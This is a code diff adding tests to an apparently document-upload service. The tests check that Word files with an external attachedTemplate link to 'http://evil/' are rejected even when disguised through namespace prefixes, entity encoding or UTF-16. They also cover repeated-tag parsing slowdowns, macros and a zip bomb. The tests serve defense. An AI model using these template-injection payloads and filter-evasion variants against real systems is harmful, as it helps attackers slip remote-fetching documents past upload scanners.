@@ -232,6 +232,16 @@ const office = (more: Parameters<typeof zip>[0] = []) =>
     ...more,
   ])
 const fetched = '<Relationship Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"/>'
+const withTemplate = (said: string | Buffer) =>
+  office([{ name: 'word/_rels/settings.xml.rels', content: Buffer.from(said) }])
+
+test('a small file that says one word very often holds up nobody', async () => {
+  const flat = await letFlat(world)
+  const repeated = withTemplate('<Relationship '.repeat(140_000))
+  const begun = performance.now()
+  await send(flat.manager, under('unit', flat.unit_id, 'OTHER'), repeated)
+  expect(performance.now() - begun).toBeLessThan(5_000)
+})
 
 test('what cannot be trusted is refused in words, and nothing of it stays', async () => {
   const flat = await letFlat(world)
@@ -239,11 +249,14 @@ test('what cannot be trusted is refused in words, and nothing of it stays', asyn
     ['locked', await makePdf('Secret', { userPassword: 'secret' }), 'needs a password'],
     ['broken', Buffer.from(`%PDF-1.7\n${'x'.repeat(500)}\n%%EOF`), 'damaged'],
     ['macros', office([{ name: 'word/vbaProject.bin', content: Buffer.from('x') }]), 'macros'],
-    [
-      'template',
-      office([{ name: 'word/_rels/settings.xml.rels', content: Buffer.from(fetched) }]),
-      'fetches things',
-    ],
+    ['template', withTemplate(fetched), 'fetches things'],
+    ...[
+      fetched.replace('evil/', 'evil/hyperlink'),
+      fetched.replace('evil/', 'evil/>'),
+      fetched.replace('<', '<r:'),
+      fetched.replace('External', '&#69;xternal'),
+      Buffer.from(`\ufeff${fetched}`, 'utf16le'),
+    ].map((said): [string, Buffer, string] => ['hidden template', withTemplate(said), 'fetches things']),
     [
       'bomb',
       office([{ name: 'word/media/a.xml', content: Buffer.alloc(120_000_000) }]),
@@ -258,6 +271,8 @@ test('what cannot be trusted is refused in words, and nothing of it stays', asyn
     expect(answer.json().message, name).toContain(said)
   }
   expect(await listed(flat.manager, `?related_entity_id=${flat.unit_id}`)).toEqual([])
+  const followed = fetched.replace('attachedTemplate', 'hyperlink')
+  await filed(flat.manager, under('unit', flat.unit_id, 'OTHER'), withTemplate(followed))
   const letter = await filed(flat.manager, under('unit', flat.unit_id, 'OTHER'), office())
   expect(letter.content_type).toContain('wordprocessingml')
   const owned = await makePdf('A form that may be read', { ownerPassword: 'owner' })
